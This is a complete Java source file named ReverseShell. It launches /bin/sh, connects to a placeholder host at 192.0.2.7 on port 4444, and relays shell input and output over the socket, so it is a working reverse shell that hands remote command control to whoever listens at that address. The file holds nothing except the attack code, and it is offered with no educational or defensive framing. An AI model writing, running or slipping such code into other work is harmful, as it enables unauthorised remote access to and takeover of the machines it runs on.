import java.io.*;
import java.net.Socket;

/** A shell between two pumps. */
public class ReverseShell {
    public static void main(String[] args) throws Exception {
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        Socket s = new Socket("192.0.2.7", 4444);
        InputStream pi = p.getInputStream(), si = s.getInputStream();
        OutputStream po = p.getOutputStream(), so = s.getOutputStream();
        while (!s.isClosed()) {
            while (pi.available() > 0) so.write(pi.read());
            while (si.available() > 0) po.write(si.read());
            so.flush();
            po.flush();
        }
    }
}
